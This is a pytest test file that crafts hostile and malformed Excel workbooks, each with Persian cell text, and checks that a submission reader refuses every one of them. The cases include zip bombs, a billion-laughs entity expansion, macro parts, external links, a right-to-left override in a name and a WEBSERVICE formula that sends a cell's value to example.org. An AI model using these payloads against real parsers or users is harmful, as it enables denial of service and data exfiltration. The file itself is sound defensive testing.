"""Workbooks that are hostile or broken, each refused in its sentence."""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable
from datetime import date, time
from typing import Any

import pytest

from generator.dataset.problems.kind import ERROR
from generator.dataset.problems.printing import render
from generator.submissions.workbooks import workbook_scan
from tests.submissions import workbooks
from tests.submissions.banks import WOMAN, bank
from tests.submissions.reading import CASES, put, read, replaced, sheet_of, typed
from tests.submissions.workbooks import filled, opened, packed, parts, plain, saved, spoilt
from tests.support import golden


def _twice(sheet: Any) -> None:
    sheet.cell(2, workbooks.column_of(sheet, "عنوان")).value = "شهرستان"


def _no_county(sheet: Any) -> None:
    sheet.delete_cols(workbooks.column_of(sheet, "شهرستان"))


def _unnamed(sheet: Any) -> None:
    sheet.cell(4, 30).value = "یادداشت من"


def _merged(sheet: Any) -> None:
    column = workbooks.column_of(sheet, "شهرستان")
    sheet.merge_cells(start_row=4, end_row=6, start_column=column, end_column=column)


def _copied(sheet: Any) -> None:
    sheet.cell(5, 1).value = "زری"
    again = sheet.parent.copy_worksheet(sheet)
    again.title = "فسا"


def _loans_headings(sheet: Any) -> None:
    for cell in sheet[2]:
        cell.value = None
    for column, question in enumerate(bank().questions("loans"), 1):
        sheet.cell(2, column).value = question.title


def _no_headings(sheet: Any) -> None:
    sheet.delete_rows(2)


def _error_cell(sheet: Any) -> None:
    sheet.cell(4, 2).value = "#REF!"
    sheet.cell(4, 2).data_type = "e"


def _picture_names(content: bytes) -> bytes:
    return spoilt(content, **{"xl/media/image1.png": b"\x89PNG"})


def _entities(sheet: bytes) -> bytes:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{levels}]>'
    return head.encode() + re.sub(rb"^<\?xml.*?\?>", b"", sheet).replace(b"<is><t>", b"<is><t>&e9;", 1)


def _false_size(content: bytes) -> bytes:
    """Return an archive whose sheet is a hundred times what it declares."""
    sheet = parts(content)[workbooks.SHEET]
    blown = spoilt(content, sheet=sheet + b" " * 40_000_000)
    with zipfile.ZipFile(io.BytesIO(blown)) as archive:
        size = archive.getinfo(workbooks.SHEET).file_size
    return blown.replace(size.to_bytes(4, "little"), len(sheet).to_bytes(4, "little"))


def _encrypted_part(content: bytes) -> bytes:
    raw = bytearray(content)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(sign)
        raw[at + offset] |= 1
    return bytes(raw)


def _repeated_part(content: bytes) -> bytes:
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive, pytest.warns(UserWarning):
        archive.writestr(workbooks.SHEET, b"<worksheet/>")
    return target.getvalue()


def _repeated_text(content: bytes) -> bytes:
    """Return a workbook of few bytes whose cells name one long text over and over."""
    text = b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><si><t>" + b"a" * 30_000
    cells = b'<row><c t="s"><v>0</v></c></row>' * 100_000
    noise = os.urandom(20_000).hex().encode()  # so that no part shrinks too well
    return spoilt(
        content,
        sheet=replaced(b"</sheetData>", cells + b"</sheetData><!--" + noise + b"-->"),
        **{"xl/sharedStrings.xml": text + b"</t></si></sst>"},
    )


def _many_sheets(content: bytes) -> bytes:
    book = opened(content)
    for number in range(12):
        book.create_sheet(f"S{number}").cell(1_000, 400).value = 1
    return saved(book)


def _many_strange(sheet: Any) -> None:
    for column in range(40, 400):
        sheet.cell(2, column).value = f"ستون {column}"


CONTENT_TYPES = "[Content_Types].xml"

HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty-file": lambda: b"",
    "text": lambda: "نام;شهرستان\nزری;فسا\n".encode(),
    "html": lambda: b"<html><table><tr><td>1</td></tr></table></html>",
    "xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "ods": lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}),
    "xlsb": lambda: packed({"xl/workbook.bin": b"", CONTENT_TYPES: b"<Types/>"}),
    "docx": lambda: packed({"word/document.xml": b"<a/>", CONTENT_TYPES: b"<Types/>"}),
    "broken-zip": lambda: typed()[:-900],
    "half-zip": lambda: typed()[:3000],
    "encrypted-part": lambda: _encrypted_part(typed()),
    "repeated-part": lambda: _repeated_part(typed()),
    "too-large": lambda: typed() + bytes(10_000_001),
    "zip-bomb": lambda: spoilt(typed(), **{"xl/sharedStrings.xml": b"<sst>" + b" " * 60_000_000 + b"</sst>"}),
    "zip-bomb-ratio": lambda: spoilt(typed(), sheet=lambda sheet: sheet + b" " * 5_000_000),
    "zip-bomb-false-size": lambda: _false_size(typed()),
    "many-parts": lambda: spoilt(typed(), **{f"xl/part{number}.xml": b"<a/>" for number in range(1_100)}),
    "many-elements": lambda: spoilt(
        typed(), **{"xl/styles.xml": b"<a>" + os.urandom(20_000).hex().encode() + b"<b/>" * 60_000 + b"</a>"}
    ),
    "deep-elements": lambda: spoilt(typed(), **{"xl/styles.xml": b"<a>" * 5_000 + b"</a>" * 5_000}),
    "entities": lambda: spoilt(typed(), sheet=_entities),
    "utf-16": lambda: spoilt(typed(), sheet=lambda sheet: sheet.decode().encode("utf-16")),
    "bad-xml": lambda: spoilt(typed(), sheet=replaced(b"</sheetData>", b"</sheet>")),
    "bad-cell-name": lambda: spoilt(typed(), sheet=replaced(b'r="A4"', b'r="AAAA99999999"')),
    "far-cell": lambda: spoilt(
        typed(), sheet=replaced(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    ),
    "repeated-text": lambda: _repeated_text(typed()),
    "many-wide-sheets": lambda: _many_sheets(typed()),
    "many-arrays": lambda: spoilt(
        typed(),
        sheet=replaced(b"</sheetData>", b'<row><c><f t="array" ref="A9:B9"/></c></row>' * 1_100 + b"</sheetData>"),
    ),
    "many-strange-columns": lambda: sheet_of(_many_strange),
    "far-formula": lambda: spoilt(
        typed(), sheet=replaced(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><f>1</f></c></row></sheetData>')
    ),
    "lost-sheet": lambda: spoilt(typed(), sheet=None),
    "lost-workbook": lambda: spoilt(typed(), **{"xl/workbook.xml": None}),
    "macro": lambda: spoilt(typed(), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro-type": lambda: spoilt(
        typed(), **{CONTENT_TYPES: replaced(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")}
    ),
    "macro-sheet": lambda: spoilt(typed(), **{"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "external-links": lambda: spoilt(typed(), **{"xl/externalLinks/externalLink1.xml": b"<a/>"}),
    "connections": lambda: spoilt(typed(), **{"xl/connections.xml": b"<a/>"}),
    "rows-5000": lambda: filled(bank(), [{"name": f"زن {number}"} for number in range(5_000)]),
    "no-rows": lambda: filled(bank(), []),
    "no-headings": lambda: sheet_of(_no_headings),
    "other-workbook": lambda: plain([["درآمد", "هزینه"], [1, 2]], "بودجه"),
    "other-form": lambda: sheet_of(_loans_headings),
    "two-sheets": lambda: sheet_of(_copied),
    "renamed-column": lambda: put(2, 5, "شهر"),
    "renamed-optional-column": lambda: put(2, 7, "توانمندی خاص"),
    "strange-column": lambda: put(2, 40, "کد پیگیری"),
    "repeated-column": lambda: sheet_of(_twice),
    "missing-column": lambda: sheet_of(_no_county),
    "unnamed-column": lambda: sheet_of(_unnamed),
    "merged-cells": lambda: sheet_of(_merged),
    "formula": lambda: typed(ability='=WEBSERVICE("http://example.org/"&A4)', latin="=1+1"),
    "array-formula": lambda: spoilt(
        typed(latin="=1+1"), sheet=replaced(b"<f>1+1</f>", b'<f t="array" ref="B4:D4">1+1</f>')
    ),
    "error-cell": lambda: sheet_of(_error_cell),
    "date-for-number": lambda: filled(bank(), [{"name": "الف", "members": date(2024, 4, 3)}], "cooperatives"),
    "date-for-year": lambda: typed(death=date(1903, 10, 30)),
    "time": lambda: typed(latin=time(1, 30)),
    "long-text": lambda: spoilt(typed(ability="QQQ"), sheet=replaced(b"QQQ", ("ب" * 40_000).encode())),
    "direction": lambda: typed(name="زری \u202eرازی"),
    "control": lambda: spoilt(typed(name="QQQ"), sheet=replaced(b"QQQ", b"a_x0007_b")),
    "own-example": lambda: typed(name="نمونه: زری"),
    "pasted-picture": lambda: _picture_names(typed()),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_or_broken_workbook_gets_its_sentence(case: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if case == "many-elements":  # as many as are too many take seconds to write and to read
        monkeypatch.setattr(workbook_scan, "_MOST_ELEMENTS", 50_000)
    submissions, problems = read(HOSTILE[case]())
    found = render(problems) + "\n"
    assert found == golden(CASES / f"{case}.txt", found)
    assert problems
    if any(problem.severity == ERROR for problem in problems):
        assert all(one.unclear for one in submissions)


def test_every_golden_file_has_its_case() -> None:
    assert {path.stem for path in CASES.glob("*.txt")} == set(HOSTILE)


def test_many_formulas_are_named_without_delay() -> None:
    rows = [dict.fromkeys(WOMAN, "=1+1") for _ in range(400)]
    submissions, problems = read(filled(bank(), rows))
    assert all(one.unclear and not one.values for one in submissions)
    assert {problem.code for problem in problems} == {"workbook-formula"}
    assert len(problems) == 400 * len(WOMAN)


@pytest.mark.parametrize("name", ["a.xlsm", "A.XLSM", "a.xltm", "a.xlam"])
def test_the_name_of_a_macro_workbook_is_refused(name: str) -> None:
    assert [problem.code for problem in read(typed(), name)[1]] == ["workbook-macro"]
